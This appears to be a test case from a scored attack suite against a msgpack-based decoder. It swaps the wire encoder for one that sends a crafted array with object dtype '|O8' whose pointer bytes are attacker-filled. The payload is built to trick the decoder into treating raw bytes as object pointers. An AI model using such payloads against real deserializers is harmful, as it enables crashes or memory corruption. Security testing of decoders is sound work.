# attacks = "the decoder, with dtypes that hold pointers"
# points = { double = 0, total = 0 }
# %% double
import msgpack
from notebook_runner import calls, wire
def lie(value, **k):
    array = msgpack.ExtType(1, msgpack.packb(["|O8", [1], "C", True, b"x" * 8], use_bin_type=True))
    return msgpack.packb({"id": value["id"], "value": array}, use_bin_type=True)
def double(x):
    wire.encode = lie
    return x
